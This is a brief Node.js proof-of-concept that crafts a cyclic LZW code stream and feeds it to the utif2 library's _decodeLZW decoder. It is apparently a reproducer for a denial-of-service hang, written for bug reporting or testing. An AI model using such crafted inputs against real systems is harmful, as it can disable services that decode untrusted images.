const UTIF = require('utif2');
// MSB-first 9-bit codes: clear, 500 (undefined yet), 258, then literals until entry 499 is made,
// then 258, 65 (entry 500 now points to 258, whose parent is 500), then 500: a cycle.
const codes = [256, 500, 258];
let K = 259; // after 258 is handled, next free entry
while (K < 499) { codes.push(65); K++; }
codes.push(258); K++; // creates 499
codes.push(65); K++;  // creates 500 with parent 258
codes.push(500, 257);
let bits = []; for (const c of codes) for (let b = 8; b >= 0; b--) bits.push((c >> b) & 1);
while (bits.length % 8) bits.push(0);
const data = new Uint8Array(bits.length / 8); bits.forEach((b, i) => { data[i >> 3] |= b << (7 - (i & 7)); });
const target = new Uint8Array(100000);
const mode = process.argv[2];
if (mode === 'utif2') { UTIF.decode._decodeLZW(data, 0, data.length, target, 0, 8); console.log('utif2 returned'); }
